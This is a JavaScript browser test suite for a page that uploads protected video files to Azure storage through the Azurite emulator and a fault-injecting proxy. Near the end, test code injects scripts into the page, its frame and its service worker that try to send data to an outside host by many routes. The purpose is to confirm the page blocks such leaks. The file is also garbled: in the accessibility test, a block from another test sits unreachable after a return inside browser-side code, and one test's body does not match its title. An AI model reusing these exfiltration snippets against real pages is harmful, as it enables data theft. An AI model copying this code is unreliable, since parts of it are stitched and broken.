// The page that uploads, with a real storage behind it: Azure's own emulator, and a proxy before it that plays faults.

import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { createServer } from 'node:net';
import { after, before, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { inEachBrowser } from './browser.mjs';
import { azurite, faulty, OLD_VERSION, sas } from './support-azurite.mjs';
import {
  LONG,
  openFile,
  protect,
  fillForm,
  protectedSample,
  SAMPLE,
  siteCopy,
  triedAgain,
  waitPlan,
  withoutPicker,
  workFolder,
} from './support.mjs';

const MIB = 2 ** 20;
const folder = workFolder();
const small = folder.path('small film.mp4');
const large = folder.path('film.mp4');

let storage;
let front;
let axe = '';
before(async () => {
  axe = await readFile(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
  storage = await azurite();
  front = await faulty(storage.origin);
  await storage.container('media');
  await storage.container('open', true);
});
after(async () => {
  await front?.close();
  await storage?.close();
});

const sum = (bytes) => createHash('sha256').update(bytes).digest('hex');

/** A protected file with so many bytes behind it that it takes several blocks. */
function padded(bytes, more) {
  const box = Buffer.alloc(8);
  box.writeUInt32BE(more + 8);
  box.write('free', 4);
  return Buffer.concat([bytes, box, randomBytes(more)]);
}

/** Both files, protected by the page's own module, once for all tests. */
let made;
function files(page) {
  made ??= protectedSample(page).then((bytes) => {
    writeFileSync(small, bytes);
    writeFileSync(large, padded(bytes, 22 * MIB));
  });
  return made;
}

const address = ({ container = 'media', version, ...more } = {}) =>
  `${front.account}/${container}?${sas({ container, ...(version ? { version } : {}), ...more })}`;

/** Of which every block has 4 MiB. */
const inBlocks = (more = {}) => address({ version: OLD_VERSION, ...more });

const there = (name, container = 'media') => storage.blob(container, encodeURIComponent(name));

const choose = async (page, path) => {
  await page.setFile('#open-file', path);
  await page.waitFor('.taken-name', { timeout: LONG });
};

const paste = async (page, text) => {
  await page.fill('[name="address"]', text);
  await page.waitFor('.place-facts');
};

const pressUpload = async (page) => {
  await page.waitFor(() => !document.querySelector('#upload').disabled);
  await page.click('#upload');
};

const done = (page) => page.waitFor('#done-url', { timeout: LONG });

/** All that the page shows, and has in its fields. */
const shown = (page) =>
  page.evaluate(
    () =>
      document.documentElement.outerHTML +
      [...document.querySelectorAll('input, textarea')].map(({ value }) => value).join(' '),
  );

const status = (page, code) =>
  page.evaluate((wanted) => document.querySelector('.upload-step').innerText.includes(wanted), code);

/** Longer than anybody waits. */
const HELD = { wait: 20_000 };

/** What becomes of blocks that come after so many others, the one of the question among them. */
const afterSome = (first, act) => {
  let seen = 0;
  return ({ method, comp }) =>
    method === 'PUT' && comp === 'block' && ++seen > first ? act(seen - first) : undefined;
};

/** Waits until so many blocks lie under a name, and are no file yet. */
async function someArrived(name, count) {
  for (const end = Date.now() + LONG; ; await sleep(100)) {
    const found = (await storage.waiting('media', encodeURIComponent(name))).filter(
      (id) => !id.endsWith('probe'),
    );
    if (found.length >= count) return;
    assert.ok(Date.now() < end, `${found}`);
  }
}

/** Gives each test a new page with the publish page open, and the faults taken out. */
function publishTests(browser) {
  return (name, body, options = {}) =>
    test(name, options, (context) =>
      triedAgain(browser, context, async () => {
        front.play = () => undefined;
        await storage.cors();
        browser.site.beyond.add(front.origin);
        const page = await browser.newPage();
        try {
          await page.goto('/publish.html');
          await page.waitFor('#choose-file');
          await files(page);
          await body(page);
          for (const url of page.requests) {
            const { origin } = new URL(url);
            assert.ok(origin === browser.site.origin || origin === front.origin, `The page asked for ${url}`);
          }
        } finally {
          await page.close();
        }
      }),
    );
}

inEachBrowser((browser) => {
  const check = publishTests(browser);

  check('a protected file arrives whole, and its address is shown without its signature', async (page) => {
    await choose(page, small);
    assert.match(await page.text('.taken'), /protected[\s\S]*H\.264/);
    await paste(page, address({ container: 'open' }));
    assert.match(await page.text('.place-facts'), /read, create, write/);
    const name = `${browser.name} film ü.mp4`;
    await page.fill('[name="name"]', name);
    assert.equal(await page.text('#connected'), 'Connects to nothing yet');
    await pressUpload(page);
    await done(page);
    assert.equal(await page.text('#connected'), `Connects to ${new URL(front.origin).host} only`);
    const url = await page.text('#done-url');
    assert.equal(url, `${front.account}/open/${encodeURIComponent(name)}`);
    const said = await page.text('.done-lines');
    assert.match(said, /Every byte was read back/);
    assert.match(said, /Players can seek: the storage answers with parts \(206\) and says Accept-Ranges/);
    const found = await there(name, 'open');
    assert.equal(sum(found.bytes), sum(readFileSync(small)));
    assert.equal(found.headers['content-type'], 'video/mp4');
    const signature = decodeURIComponent(/sig=([^&]+)/.exec(address())[1]);
    const all = await shown(page);
    assert.ok(!all.includes('sig=') && !all.includes(signature.slice(0, 12)));
    const kept = await page.evaluate(async () => [
      JSON.stringify({ ...localStorage, ...sessionStorage }),
      location.href,
      JSON.stringify(await indexedDB.databases()),
      JSON.stringify(await caches.keys()),
    ]);
    assert.deepEqual(kept, ['{}', `${browser.site.origin}/publish.html`, '[]', '[]']);
    // Nobody else is served by the service worker of the frame.
    await page.goto('/');
    await page.waitFor('#open-button');
    const controlled = await page.evaluate(async () => ({
      by: navigator.serviceWorker.controller,
      scopes: (await navigator.serviceWorker.getRegistrations()).map(({ scope }) => new URL(scope).pathname),
    }));
    assert.equal(controlled.by, null);
    assert.deepEqual(controlled.scopes, ['/publish/to/']);
  });

  check('clear files, and files that are protected in part, are refused', async (page) => {
    await page.setFile('#open-file', SAMPLE);
    await page.waitFor('#file-step .notice');
    assert.match(await page.text('#file-step .notice'), /not protected.*main page/s);
    const half = folder.path('half.mp4');
    writeFileSync(half, await protectedSample(page, { tracks: [1] }));
    await page.setFile('#open-file', half);
    await page.waitFor(() => /half\.mp4/.test(document.querySelector('#file-step .notice')?.innerText));
    assert.match(await page.text('#file-step .notice'), /Not all of half\.mp4 is protected/);
    const text = folder.path('notes.mp4');
    writeFileSync(text, 'no media at all, but long enough to be looked at');
    await page.setFile('#open-file', text);
    await page.waitFor(() =>
      /notes\.mp4 was not opened/.test(document.querySelector('#file-step .notice')?.innerText),
    );
    await paste(page, address());
    assert.equal(await page.evaluate(() => document.querySelector('#upload').disabled), true);
  });

  check('closed in the middle, it goes on where it was, and nothing is visible before', async (page) => {
    const name = `${browser.name} resumed.mp4`;
    front.play = afterSome(3, () => HELD);
    const begin = async () => {
      await choose(page, large);
      await paste(page, inBlocks());
      await page.fill('[name="name"]', name);
      await pressUpload(page);
    };
    await begin();
    await someArrived(name, 2);
    // As if it had crashed: nothing of the page is asked.
    await page.evaluate(
      () => void window.addEventListener('beforeunload', (event) => event.stopImmediatePropagation(), true),
    );
    await page.goto('/publish.html');
    await page.waitFor('#choose-file');
    assert.equal(await there(name), null);
    const waiting = await storage.waiting('media', encodeURIComponent(name));
    assert.ok(waiting.filter((id) => !id.endsWith('probe')).length > 0);
    front.play = () => undefined;
    const before = front.requests.length;
    await begin();
    await done(page);
    assert.match(await page.text('.upload-lines'), /parts have arrived before/);
    const blocks = front.requests
      .slice(before)
      .filter(({ method, comp }) => method === 'PUT' && comp === 'block');
    assert.ok(blocks.length < 7, `${blocks.length}`);
    assert.equal(sum((await there(name)).bytes), sum(readFileSync(large)));
  });

  check('where no rule lets the page in, the rule is printed', async (page) => {
    await storage.cors({ methods: '' });
    await choose(page, small);
    await paste(page, address());
    await pressUpload(page);
    await page.waitFor('.rules', { timeout: LONG });
    const said = await page.text('.upload-outcome');
    assert.match(said, /Allowed methods: GET, HEAD, PUT, OPTIONS/);
    assert.ok(said.includes(`Allowed origins: ${browser.site.origin}`));
    assert.match(said, /az storage cors add --account-name devstoreaccount1/);
    // A rule for reading alone is told from none.
    await storage.cors({ methods: 'GET', headers: '' });
    await pressUpload(page);
    await page.waitFor(() => /A rule is missing there/.test(document.querySelector('.rules')?.innerText), {
      timeout: LONG,
    });
    await storage.cors();
    await pressUpload(page);
    await done(page);
  });

  check('a SAS that ends on the way is renewed, and what has arrived is not sent again', async (page) => {
    const name = `${browser.name} renewed.mp4`;
    let blocks = 0;
    front.play = ({ method, comp }) =>
      method === 'PUT' && comp === 'block' && ++blocks > 4
        ? {
            status: 403,
            code: 'AuthenticationFailed',
            text: 'Signature not valid in the specified time frame',
          }
        : undefined;
    await choose(page, large);
    await paste(page, inBlocks());
    await page.fill('[name="name"]', name);
    await pressUpload(page);
    await page.waitFor('#renew', { timeout: LONG });
    assert.match(await page.text('.upload-outcome'), /signature of the address has expired/);
    assert.equal(await there(name), null);
    front.play = () => undefined;
    const before = front.requests.length;
    await page.click('#renew');
    await paste(page, inBlocks());
    assert.equal(await page.evaluate(() => document.querySelector('[name="name"]').value), name);
    await pressUpload(page);
    await done(page);
    const again = front.requests
      .slice(before)
      .filter(({ method, comp }) => method === 'PUT' && comp === 'block');
    assert.ok(again.length < 6, `${again.length}`);
    assert.equal(sum((await there(name)).bytes), sum(readFileSync(large)));
  });

  check('a name that is taken, a storage that is busy, and being cancelled', async (page) => {
    const name = `${browser.name} taken.mp4`;
    await storage.put('media', encodeURIComponent(name), 'there before');
    // One is refused, one is cut, some arrive, and the others wait.
    front.play = afterSome(2, (number) =>
      number === 1
        ? { status: 503, code: 'ServerBusy' }
        : number === 2
          ? 'cut'
          : number < 6
            ? undefined
            : HELD,
    );
    await choose(page, large);
    await paste(page, inBlocks());
    await page.fill('[name="name"]', name);
    await pressUpload(page);
    await page.click('#keep');
    await page.waitFor('.upload-outcome .notice');
    assert.equal(String((await there(name)).bytes), 'there before');
    await pressUpload(page);
    await page.click('#replace');
    await someArrived(name, 2);
    await page.press('Escape');
    await page.waitFor('.start-note.cancelled');
    assert.match(await page.text('.start-note'), /Nothing is visible there.*press Upload to go on/);
    assert.equal(String((await there(name)).bytes), 'there before');
    front.play = () => undefined;
    await pressUpload(page);
    await done(page);
    assert.equal(sum((await there(name)).bytes), sum(readFileSync(large)));
  });

  check('a file that was changed since it was chosen is not uploaded', async (page) => {
    const path = folder.path('changing.mp4');
    const name = `${browser.name} changing.mp4`;
    writeFileSync(path, readFileSync(small));
    await choose(page, path);
    await paste(page, address());
    await page.fill('[name="name"]', name);
    await sleep(1100);
    writeFileSync(path, randomBytes(readFileSync(small).length));
    await pressUpload(page);
    await page.waitFor('.upload-outcome .notice', { timeout: LONG });
    assert.match(await page.text('.upload-outcome'), /no longer the one that was opened/);
    assert.equal(await there(name), null);
  });

  check('two tabs do not upload to one name', async (page) => {
    front.play = ({ method, comp }) => (method === 'PUT' && comp === 'block' ? { wait: 1500 } : undefined);
    await choose(page, small);
    await paste(page, address());
    await page.fill('[name="name"]', `${browser.name} twice.mp4`);
    // What the other tab holds.
    const where = `${front.account}/media/${encodeURIComponent(`${browser.name} twice.mp4`)}`;
    await page.evaluate(
      (name) =>
        new Promise((held) => {
          navigator.locks.request(name, () => new Promise((end) => void ((window.letGo = end), held(null))));
        }),
      `boxlock-publish ${where}`,
    );
    await pressUpload(page);
    await page.waitFor('.upload-outcome .notice');
    assert.match(
      await page.text('.upload-outcome'),
      /Another tab of this browser is uploading to this very name/,
    );
    await page.evaluate(() => window.letGo());
    await pressUpload(page);
    await done(page);
    assert.ok(await status(page, 'It is there, whole.'));
  });

  check(
    'a result goes on to the page by its name in storage, and is there when that is loaded again',
    async (page) => {
      await page.goto('/');
      await page.waitFor('#open-button');
      await page.goto('/publish.html#stored=0123456789abcdef0123456789abcdef.mp4&name=gone.mp4');
      await page.waitFor('#file-step .notice');
      assert.match(await page.text('#file-step .notice'), /gone\.mp4 was not found/);
    },
  );

  check('without a mouse, and for people who listen, every state of the page is usable', async (page) => {
    const audit = async (state) => {
      await page.evaluate(`() => { ${axe}; }`);
      const violations = await page.evaluate(async () => {
        const options = { rules: { 'color-contrast': { enabled: true } } };
        const { violations: found } = await window.axe.run(document, options);
        return found.map(
          ({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 120)).join(' | ')}`,
        );
        await page.goto('/');
        await page.waitFor('#open-button');
        await withoutPicker(page);
        await openFile(page, SAMPLE);
        await fillForm(page);
        await waitPlan(page);
        await protect(page);
        const link = await page.evaluate(() => {
          const { href, target } = document.querySelector('#publish');
          return { href, target };
        });
        assert.equal(link.target, '_blank');
        assert.match(link.href, /\/publish\.html#stored=[\da-f]{32}\.mp4&name=sample\.mp4$/);
        // In a frame, as the page that made it must stay; with the address as a new tab has it.
        const size = await page.evaluate(async (href) => {
          const frame = document.createElement('iframe');
          frame.src = href;
          const seen = async () => {
            for (;;) {
              const name = frame.contentDocument?.querySelector('.taken-name');
              if (name)
                return `${name.textContent}: ${frame.contentDocument.querySelector('.taken .quiet').textContent}`;
              await new Promise((resolve) => void setTimeout(resolve, 50));
            }
          };
          document.body.append(frame);
          const first = await seen();
          await new Promise((resolve) => {
            frame.addEventListener('load', resolve, { once: true });
            frame.contentWindow.location.reload();
          });
          return [first, await seen()];
        }, link.href);
        assert.equal(size[0], size[1]);
        assert.match(size[0], /^sample\.mp4: \d+ kB/);
      });
      assert.deepEqual(violations, [], state);
      const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
      assert.ok(wide <= 0, `${state} is ${wide} px too wide`);
    };
    await page.setViewport(390, 844);
    await audit('empty');
    await choose(page, small);
    await page.fill('[name="address"]', 'https://acc.blob.core.windows.net/media');
    await page.waitFor('[name="address"][aria-invalid="true"]');
    await audit('an address that is refused');
    await storage.cors({ methods: '' });
    await paste(page, address({ container: 'open' }));
    await audit('ready');
    await pressUpload(page);
    await page.waitFor('.rules', { timeout: LONG });
    await audit('the rule');
    await storage.cors();
    await page.evaluate(() => document.querySelector('#upload').focus());
    await page.press('Enter');
    await done(page);
    await page.evaluate(() => {
      for (const each of document.querySelectorAll('details')) each.open = true;
    });
    await audit('done, with scripts unfolded');
    await page.setViewport(1280, 900);
    await audit('wide');
  });
});

/** Everything that a script in one of these contexts might try, to a place that must hear of nothing. */
const attempts = (to) => `
;(() => {
  const form = (target) => {
    const made = Object.assign(document.createElement('form'), { action: '${to}/form', method: 'post', target });
    document.body.append(made);
    made.submit();
  };
  const tries = [
    () => fetch('${to}/fetch', { mode: 'no-cors' }).catch(() => {}),
    () => { const x = new XMLHttpRequest(); x.open('POST', '${to}/xhr'); x.send('bytes'); },
    () => navigator.sendBeacon('${to}/beacon', 'bytes'),
    () => new WebSocket('${to.replace('http', 'ws')}/socket'),
    () => new EventSource('${to}/events'),
    () => importScripts('${to}/import.js'),
    () => caches.open('x').then((cache) => cache.add('${to}/cache')).catch(() => {}),
    () => { new Image().src = '${to}/image.png'; },
    () => document.body.append(Object.assign(document.createElement('iframe'), { src: '${to}/frame' })),
    () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${to}/style' })),
    () => form('_blank'),
    () => new Worker(URL.createObjectURL(new Blob(["fetch('${to}/worker', { mode: 'no-cors' })"]))),
  ];
  const all = (list) => { for (const attempt of list) try { attempt(); } catch {} };
  all(tries);
  // These may end what they are tried from: when the upload is done.
  if (self.parent && self.parent !== self)
    new BroadcastChannel('now').onmessage = () =>
      all([
        () => window.open('${to}/open'),
        () => form('_top'),
        () => form('_self'),
        () => void (top.location.href = '${to}/top'),
        () => void (location.href = '${to}/location'),
      ]);
})();
`;

/** A place outside that counts what comes, whatever it says. */
async function outside() {
  const arrived = [];
  const server = createServer((socket) => {
    socket.on('error', () => {});
    socket.once('data', (data) => arrived.push(data.toString('latin1').split('\r\n')[0]));
    setTimeout(() => socket.destroy(), 300);
  });
  await new Promise((resolve) => void server.listen(0, '127.0.0.1', resolve));
  return { origin: `http://127.0.0.1:${server.address().port}`, arrived, close: () => server.close() };
}

const PARTS = ['publish/page.js', 'publish/courier.js', 'publish/publish-worker.js'];
const guarded = siteCopy();
const clean = Object.fromEntries(PARTS.map((part) => [part, readFileSync(guarded.path(part), 'utf8')]));

inEachBrowser(
  (browser) => {
    /** Uploads with a script in each context that tries to reach another place, and gives what arrived there. */
    const leak = async (where, parts, to) => {
      const place = await outside();
      for (const part of PARTS) {
        const text = parts.includes(part) ? attempts(`${to ?? place.origin}/${part.split('/')[1]}`) : '';
        writeFileSync(guarded.path(part), where === 'first' ? text + clean[part] : clean[part] + text);
      }
      front.play = () => undefined;
      await storage.cors();
      browser.site.beyond.add(front.origin);
      const page = await browser.newPage();
      try {
        await page.goto('/publish.html');
        await page.waitFor('#choose-file');
        await files(page);
        await choose(page, small);
        await paste(page, address());
        await page.fill('[name="name"]', `${browser.name} guarded.mp4`);
        await pressUpload(page);
        // A script that broke what it came into may have ended the upload too.
        await page.waitFor(
          () => document.querySelector('#done-url') || document.querySelector('.upload-outcome .notice'),
          {
            timeout: LONG,
          },
        );
        const finished = await page.evaluate(() => Boolean(document.querySelector('#done-url')));
        await page.evaluate(() => new BroadcastChannel('now').postMessage(null));
        await sleep(1500);
        // It leads this tab nowhere either.
        assert.equal(await page.evaluate(() => location.pathname), '/publish.html');
        const host = new URL(place.origin).host;
        const atProxy = browser.site.requests.filter((url) => new URL(url).host === host);
        return { arrived: [...place.arrived, ...atProxy], finished };
      } finally {
        await page.close();
        place.close();
      }
    };

    test('nothing that the page, its frame or its service worker try arrives anywhere but at the address given', (context) =>
      triedAgain(browser, context, async () => {
        const { arrived, finished } = await leak('last', PARTS);
        assert.deepEqual(arrived, []);
        assert.ok(finished);
      }));

    test('where there are no service workers, the page says so, and has the script', (context) =>
      triedAgain(browser, context, async () => {
        for (const part of PARTS) writeFileSync(guarded.path(part), clean[part]);
        const without = 'delete Navigator.prototype.serviceWorker;';
        writeFileSync(guarded.path('publish/page.js'), without + clean['publish/page.js']);
        const page = await browser.newPage();
        try {
          await page.goto('/publish.html');
          await page.waitFor('.command');
          assert.match(await page.text('.upload-step'), /no service workers.*or the script below/s);
          assert.equal(await page.evaluate(() => document.querySelector('#upload').disabled), true);
          assert.match(await page.text('.script-step'), /azcopy/);
        } finally {
          await page.close();
        }
      }));

    test('the frame reaches the address that was given by the same ways', (context) =>
      triedAgain(browser, context, async () => {
        const before = front.requests.length;
        await leak('last', ['publish/courier.js'], front.origin);
        const found = front.requests.slice(before).map(({ url }) => url.pathname);
        assert.ok(found.includes('/courier.js/fetch') && found.includes('/courier.js/xhr'), `${found}`);
      }));

    test('a service worker with its ways out would let it through: the test above sees it', (context) =>
      triedAgain(browser, context, async () => {
        const { arrived } = await leak('first', ['publish/publish-worker.js']);
        assert.ok(
          arrived.some((line) => /publish-worker\.js\/fetch/.test(line)),
          `${arrived}`,
        );
      }));
  },
  { root: guarded.root },
);
